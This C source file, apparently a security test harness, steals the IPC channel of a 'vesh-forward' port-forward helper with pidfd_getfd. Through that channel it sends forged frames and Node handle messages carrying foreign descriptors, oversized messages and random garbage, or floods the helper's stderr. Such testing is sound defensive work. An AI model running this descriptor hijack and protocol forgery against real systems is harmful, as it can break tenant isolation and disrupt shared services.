/*
 * Attack: take over the channel of the port-forward helper (the process
 * named vesh-forward in the VE) and send the SSH server's side what it does
 * not expect. Run inside the VE, as VE root or as a plain user.
 *
 *   forward-hijack UID MODE
 *
 * UID: the helper to attack is the one running as this uid (the account's
 * user in the VE). MODE:
 *   file         a regular file's descriptor
 *   unix         a Unix socket's descriptor
 *   listener     a listening TCP socket where a connected one is expected
 *   unterminated a large message with no terminator
 *   garbage      random bytes, in messages of many sizes
 *   stderr       not the channel: 256 MiB to the helper's stderr (fd 2), to
 *                see whether the server side keeps reading it (prints
 *                "stderr: EPIPE after N bytes" when nobody does any more)
 *
 * Each descriptor mode sends it the way Node's IPC channel carries a handle
 * (a {"cmd":"NODE_HANDLE",...} line: what the old server spoke) and, when the
 * channel is a SOCK_SEQPACKET one (the current helper protocol), also as
 * well-formed frames (forward-frame.h, copied here as a tenant would copy
 * it) claiming to be a connection for every small id.
 *
 * In listener mode, prints "accepted-by-server" when another process (the
 * server) accepts connections on the listener it was handed.
 * In unix mode, prints "relayed: ..." when the server took the Unix socket
 * for a forwarded connection (what the forward's far end said came back).
 * Prints "taken" once it holds the channel and "sent" when done; exits 3
 * with "getfd: ..." when the helper's channel cannot be taken.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#ifndef SYS_pidfd_open
#define SYS_pidfd_open 434
#endif
#ifndef SYS_pidfd_getfd
#define SYS_pidfd_getfd 438
#endif

/* The helper's frame (src/native/forward-frame.h). */
struct frame {
  uint32_t magic, type, id, port, flags, mask;
  char addr[256];
  char text[256];
};
#define MAGIC 0x76736632u
#define T_CONNECTED 2
#define T_ACCEPTED 5

static int chan = -1;

/* The main helper running as `uid`: comm vesh-forward, and its parent is not one (that would be a name-lookup child). */
static int find_helper(uid_t uid) {
  DIR *d = opendir("/proc");
  if (!d) return -1;
  struct dirent *e;
  int found = -1;
  while ((e = readdir(d))) {
    int pid = atoi(e->d_name);
    if (pid <= 0) continue;
    char p[64], comm[64] = "", buf[512];
    snprintf(p, sizeof p, "/proc/%d/comm", pid);
    FILE *f = fopen(p, "r");
    if (!f) continue;
    if (!fgets(comm, sizeof comm, f)) comm[0] = 0;
    fclose(f);
    if (strcmp(comm, "vesh-forward\n") != 0) continue;
    snprintf(p, sizeof p, "/proc/%d/status", pid);
    f = fopen(p, "r");
    if (!f) continue;
    int ppid = -1;
    unsigned ruid = (unsigned)-1;
    while (fgets(buf, sizeof buf, f)) {
      if (!strncmp(buf, "PPid:", 5)) ppid = atoi(buf + 5);
      if (!strncmp(buf, "Uid:", 4)) ruid = (unsigned)strtoul(buf + 4, NULL, 10);
    }
    fclose(f);
    if (ruid != uid) continue;
    snprintf(p, sizeof p, "/proc/%d/comm", ppid);
    f = fopen(p, "r");
    if (f) {
      if (!fgets(comm, sizeof comm, f)) comm[0] = 0;
      fclose(f);
      if (!strcmp(comm, "vesh-forward\n")) continue;
    }
    found = pid;
  }
  closedir(d);
  return found;
}

/* Send `len` bytes with `fd` attached (fd < 0: none). Errors are reported, not fatal: the other side may refuse. */
static void send_with(const void *buf, size_t len, int fd) {
  struct iovec iov = { (void *)buf, len };
  union { char b[CMSG_SPACE(sizeof(int))]; struct cmsghdr a; } u;
  struct msghdr mh = { .msg_iov = &iov, .msg_iovlen = 1 };
  if (fd >= 0) {
    memset(&u, 0, sizeof u);
    mh.msg_control = u.b;
    mh.msg_controllen = sizeof u.b;
    struct cmsghdr *c = CMSG_FIRSTHDR(&mh);
    c->cmsg_level = SOL_SOCKET;
    c->cmsg_type = SCM_RIGHTS;
    c->cmsg_len = CMSG_LEN(sizeof(int));
    memcpy(CMSG_DATA(c), &fd, sizeof fd);
  }
  if (sendmsg(chan, &mh, MSG_NOSIGNAL) < 0) fprintf(stderr, "sendmsg(%zu bytes): %s\n", len, strerror(errno));
}

/* The descriptor both ways: as Node IPC carries a handle, and as frames for ids 1..16. */
static int seqpacket; /* the current helper's channel; a stream is Node's IPC (the old server) */

static void send_descriptor(int fd, const char *node_type) {
  /* Frames first, "accepted" first: the first listener's id (1) is the likeliest to be live. */
  for (int k = 0; k < 2 && seqpacket; k++) {
    for (uint32_t id = 1; id <= 16; id++) {
      struct frame f;
      memset(&f, 0, sizeof f);
      f.magic = MAGIC;
      f.type = k ? T_CONNECTED : T_ACCEPTED;
      f.id = id;
      f.port = 1;
      strcpy(f.addr, "10.0.0.1");
      send_with(&f, sizeof f, fd);
    }
  }
  char line[300];
  snprintf(line, sizeof line, "{\"cmd\":\"NODE_HANDLE\",\"type\":\"%s\",\"msg\":{\"t\":\"accepted\",\"id\":1,\"remoteAddress\":\"10.0.0.1\",\"remotePort\":1}}\n", node_type);
  send_with(line, strlen(line), fd);
}

int main(int argc, char **argv) {
  if (argc != 3) {
    fprintf(stderr, "usage: forward-hijack UID file|unix|listener|unterminated|garbage|stderr\n");
    return 2;
  }
  int pid = find_helper((uid_t)strtoul(argv[1], NULL, 10));
  if (pid < 0) {
    fprintf(stderr, "no vesh-forward helper of uid %s\n", argv[1]);
    return 4;
  }
  int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
  if (pidfd < 0) {
    printf("getfd: pidfd_open: %s\n", strerror(errno));
    return 3;
  }
  const char *mode = argv[2];
  if (!strcmp(mode, "stderr")) {
    /* The helper's stderr, which the engine gave it: what reads the other end, and for how long? */
    int err = (int)syscall(SYS_pidfd_getfd, pidfd, 2, 0);
    if (err < 0) {
      printf("getfd: %s\n", errno == EPERM ? "EPERM" : strerror(errno));
      return 3;
    }
    signal(SIGPIPE, SIG_IGN);
    static char junk[65536];
    memset(junk, 'e', sizeof junk);
    size_t total = 0;
    while (total < (256u << 20)) {
      ssize_t n = write(err, junk, sizeof junk);
      if (n < 0) {
        printf("stderr: %s after %zu bytes\n", errno == EPIPE ? "EPIPE" : strerror(errno), total);
        return 0;
      }
      total += (size_t)n;
    }
    printf("stderr: all %zu bytes taken\n", total);
    return 0;
  }
  chan = (int)syscall(SYS_pidfd_getfd, pidfd, 3, 0);
  if (chan < 0) {
    printf("getfd: %s\n", errno == EPERM ? "EPERM" : strerror(errno));
    return 3;
  }
  int type = 0;
  socklen_t tl = sizeof type;
  seqpacket = getsockopt(chan, SOL_SOCKET, SO_TYPE, &type, &tl) == 0 && type == SOCK_SEQPACKET;
  printf("taken (%s)\n", seqpacket ? "frames" : "Node IPC");
  fflush(stdout);
  if (!strcmp(mode, "file")) {
    int fd = open("/etc/hostname", O_RDONLY);
    send_descriptor(fd, "net.Socket");
  } else if (!strcmp(mode, "unix")) {
    int sv[2];
    socketpair(AF_UNIX, SOCK_STREAM, 0, sv);
    send_descriptor(sv[0], "net.Socket");
    close(sv[0]);
    /* Did the server take it as a forwarded connection? Then what the other end of the forward says arrives here. */
    struct pollfd p = { .fd = sv[1], .events = POLLIN };
    char got[256];
    if (poll(&p, 1, 4000) > 0) {
      ssize_t n = read(sv[1], got, sizeof got - 1);
      if (n > 0) {
        got[n] = 0;
        printf("relayed: %s\n", got);
      }
    }
  } else if (!strcmp(mode, "listener")) {
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in a = { .sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
    if (bind(fd, (struct sockaddr *)&a, sizeof a) < 0 || listen(fd, 8) < 0) perror("listen");
    /* As Node IPC: a server handle where the server expects a socket. */
    send_descriptor(fd, "net.Server");
    /* Does anyone else accept on it now? Connect, give them time, and see whether our backlog still holds the connection. */
    sleep(1);
    struct sockaddr_in me;
    socklen_t ml = sizeof me;
    getsockname(fd, (struct sockaddr *)&me, &ml);
    int c = socket(AF_INET, SOCK_STREAM, 0);
    if (connect(c, (struct sockaddr *)&me, ml) == 0) {
      sleep(2);
      int got = accept4(fd, NULL, NULL, SOCK_NONBLOCK);
      if (got < 0 && errno == EAGAIN) printf("accepted-by-server: a connection to our listener was taken by someone else\n");
    }
  } else if (!strcmp(mode, "unterminated")) {
    /* The biggest message the channel takes, of JSON-looking bytes and no newline or frame shape. */
    size_t len = 8 << 20;
    char *big = malloc(len);
    memset(big, 'a', len);
    big[0] = '"';
    if (seqpacket) {
      /* A datagram socket takes one message up to its buffer size: halve until one goes. */
      for (size_t l = len; l >= 4096; l /= 2) {
        if (send(chan, big, l, MSG_NOSIGNAL) >= 0) break;
      }
    } else {
      send_with(big, len, -1);
    }
  } else if (!strcmp(mode, "garbage")) {
    unsigned seed = 12345;
    static char buf[70000];
    static const size_t sizes[] = { 1, 7, 16, 100, 527, 528, 529, 1000, 4096, 65536 };
    for (int round = 0; round < 20; round++) {
      for (size_t s = 0; s < sizeof sizes / sizeof sizes[0]; s++) {
        for (size_t i = 0; i < sizes[s]; i++) buf[i] = (char)(rand_r(&seed) & 0xff);
        /* Some with the right magic in front, some ending in a newline. */
        if (round % 2 && sizes[s] >= 4) { uint32_t m = MAGIC; memcpy(buf, &m, 4); }
        if (round % 3 == 0) buf[sizes[s] - 1] = '\n';
        send_with(buf, sizes[s], -1);
      }
    }
  } else {
    fprintf(stderr, "unknown mode %s\n", mode);
    return 2;
  }
  printf("sent\n");
  return 0;
}
